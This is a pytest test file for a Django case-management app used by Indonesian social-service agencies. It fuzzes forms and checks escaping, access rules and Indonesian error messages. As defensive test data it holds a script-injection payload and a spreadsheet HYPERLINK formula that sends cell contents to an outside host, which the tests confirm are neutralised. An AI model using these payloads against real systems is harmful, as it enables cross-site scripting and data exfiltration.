"""Bad input never gives a 500, and what users read stays Indonesian."""

import csv
import datetime
import io

import pytest
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agencies.models import Agency
from cases import services
from cases.models import Case, IssuedDocument, LetterTemplate, Person
from cases.views import _ip
from sop_catalog.models import SOP
from sop_catalog.services import SOPFormatError, import_sops
from tests.cases.test_case_views import pdf_text

# derandomize: CI sees the same examples on every run; set it to False locally to explore new inputs.
FUZZ = settings(
    max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300)


@FUZZ
@given(nik=TEXT, name=TEXT, birth=st.dates(min_value=datetime.date(1, 1, 1)), kk=TEXT, found=TEXT)
def test_the_person_form_never_fails_on_any_input(petugas_client, nik, name, birth, kk, found):
    data = {"nik": nik, "name": name, "birth_date": birth.isoformat(), "sex": "L", "kk_number": kk, "found_at": found}

    response = petugas_client.post("/orang/baru/", data)

    nul = any("\x00" in value for value in (nik, name, kk, found))
    assert response.status_code in ((400,) if nul else (200, 302))


@FUZZ
@given(query=TEXT)
def test_person_search_never_fails(petugas_client, query):
    expected = 400 if "\x00" in query else 200
    assert petugas_client.get("/orang/", {"q": query}).status_code == expected


@FUZZ
@given(start=TEXT, end=TEXT, sop=TEXT)
def test_the_report_and_exports_never_fail_on_odd_filters(client, demo_users, start, end, sop):
    client.force_login(demo_users["lumajang-kabid"])
    report = client.get("/laporan/mutu-baku/", {"dari": start, "sampai": end, "sop": sop})
    export = client.get("/laporan/ekspor/permohonan.csv", {"dari": start, "status": sop})

    assert report.status_code == (400 if "\x00" in start + end + sop else 200)
    assert export.status_code == (400 if "\x00" in start + sop else 200)  # the export is sent no end date


@pytest.mark.parametrize(
    "dari, sampai", [("0001-01-01", "9999-12-31"), ("2026-02-30", ""), ("9999-12-31", "0001-01-01")]
)
def test_extreme_dates_are_clamped(client, demo_users, dari, sampai):
    client.force_login(demo_users["lumajang-kadis"])

    assert client.get("/laporan/mutu-baku/", {"dari": dari, "sampai": sampai}).status_code == 200


def test_script_in_a_name_shows_as_text_in_pages_and_pdfs(petugas_client, registered, petugas):
    Person.objects.filter(pk=registered.applicant_id).update(name='<script>alert("x")</script> Siti')

    page = petugas_client.get(f"/permohonan/{registered.pk}/").content.decode()
    text = pdf_text(petugas_client.get(f"/permohonan/{registered.pk}/tanda-terima.pdf").content)

    assert '<script>alert("x")</script>' not in page and "&lt;script&gt;" in page
    assert '<script>alert("x")</script> Siti' in text


def test_a_formula_in_a_name_is_not_exported_as_a_formula(client, demo_users, registered):
    Person.objects.filter(pk=registered.applicant_id).update(name='=HYPERLINK("http://x/?"&A1,"klik")')
    client.force_login(demo_users["lumajang-kabid"])

    content = client.get("/laporan/ekspor/permohonan.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))

    assert rows[0]["Pemohon"].startswith("'=")


def test_error_pages_are_in_indonesian(client, demo_users, registered):
    client.force_login(demo_users["lumajang-kasi"])

    forbidden = client.get("/orang/baru/")
    missing = client.get("/permohonan/999999/")

    refused, absent = forbidden.content.decode(), missing.content.decode()
    assert forbidden.status_code == 403 and "<h1>Anda tidak berwenang membuka halaman ini</h1>" in refused
    assert "tidak ditemukan" not in refused
    assert missing.status_code == 404 and "<h1>Halaman tidak ditemukan</h1>" in absent
    assert "tidak berwenang" not in absent


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("workdays", "Senin", "nomor hari 1–7"),
        ("workdays", "", "nomor hari 1–7"),
        ("office_opens", datetime.time(16, 0), "sesudah jam mulai"),
        ("time_zone", "WITA", "Zona waktu tidak dikenal"),
        ("letter_number_pattern", "{nomor}/{tahun}", "tidak sah"),
    ],
)
def test_agency_settings_are_checked(agencies, field, value, message):
    agency = Agency.objects.get(slug="lumajang")
    setattr(agency, field, value)

    with pytest.raises(ValidationError, match=message):
        agency.full_clean()


def test_two_agencies_can_not_share_a_registration_code(agencies):
    solok = Agency.objects.get(slug="solok")
    solok.code = "LMJ"

    with pytest.raises(ValidationError, match="sudah dipakai"):
        solok.full_clean()


def test_a_rahasia_case_shows_no_step_on_the_public_page(client, registered):
    Case.objects.filter(pk=registered.pk).update(sifat="rahasia")

    page = client.get(f"/status/{registered.number}/", {"kode": registered.survey_code}).content.decode()

    assert registered.current_step.sop_step.activity[:30] not in page


def test_a_berita_acara_is_issued_at_its_step_by_its_desk(client, demo_users, registered, spm, person, petugas, walk):
    from tests.cases.test_naskah import open_case, walk_to_step, with_papers  # noqa: PLC0415

    draft = services.open_case(
        user=petugas, sop=spm, applicant=person, beneficiary=person, channel="datang", purpose="konsep"
    )
    odgj = walk_to_step(open_case(demo_users, "lumajang-odgj", with_papers()), walk, 11)
    template = LetterTemplate.objects.get(agency__slug="lumajang", kind="ba_pemulangan")
    data = {"template": template.pk, "nama": "Kepala Desa", "jabatan": "", "instansi": "", "saksi": "", "tempat": ""}
    client.force_login(demo_users["lumajang-kabid-rehsos"])  # the Kabid of the ODGJ's bidang
    by_kabid = client.post(f"/permohonan/{odgj.pk}/berita-acara/", data, follow=True)
    client.force_login(petugas)
    on_draft = client.post(f"/permohonan/{draft.pk}/berita-acara/", data, follow=True)
    on_spm = client.post(f"/permohonan/{registered.pk}/berita-acara/", data, follow=True)
    preview = client.post(f"/permohonan/{odgj.pk}/berita-acara/konsep.pdf", data)
    by_petugas = client.post(f"/permohonan/{odgj.pk}/berita-acara/", data, follow=True)

    assert "pilihan yang valid" in by_kabid.content.decode()  # not offered: not the step's desk
    assert "pilihan yang valid" in on_draft.content.decode() and "pilihan yang valid" in on_spm.content.decode()
    assert preview["Content-Type"] == "application/pdf"
    document = IssuedDocument.objects.get(case=odgj, template=template)
    assert (
        document.signer["title"] == "Petugas Pelayanan"
        and document.signer["agency"] == "Dinas Sosial Kabupaten Lumajang"
    )
    assert "diterbitkan dengan nomor" in by_petugas.content.decode()
    assert not IssuedDocument.objects.filter(case__in=[draft, registered], template=template).exists()


def test_the_client_address_behind_a_trusted_proxy(rf, settings):
    request = rf.get("/", HTTP_X_FORWARDED_FOR="203.0.113.9, 10.0.0.2", REMOTE_ADDR="127.0.0.1")
    settings.TRUSTED_PROXY_COUNT = 0
    direct = _ip(request)
    settings.TRUSTED_PROXY_COUNT = 2

    assert direct == "127.0.0.1" and _ip(request) == "203.0.113.9"


def test_a_fuzzed_sop_file_is_refused_without_writing(db):
    before = SOP.objects.count()
    for bad in [None, {}, [1], [{"agency": "x"}], [{"agency": {"name": "A", "slug": "a"}, "slug": "a", "name": "A",
                                                    "roles": [{"label": "X", "desk": "x"}]}]]:  # fmt: skip
        with pytest.raises(SOPFormatError):
            import_sops(bad)
    assert SOP.objects.count() == before


def test_a_nul_character_is_refused_politely(client, demo_users, registered):
    client.force_login(demo_users["lumajang-petugas"])

    search = client.get("/orang/", {"q": "a\x00b"})
    action = client.post(
        f"/permohonan/{registered.pk}/tindakan/tolak/", {"step": registered.current_step_id, "text": "x\x00"}
    )

    assert search.status_code == 400 and "tidak sah" in search.content.decode()
    assert action.status_code == 400
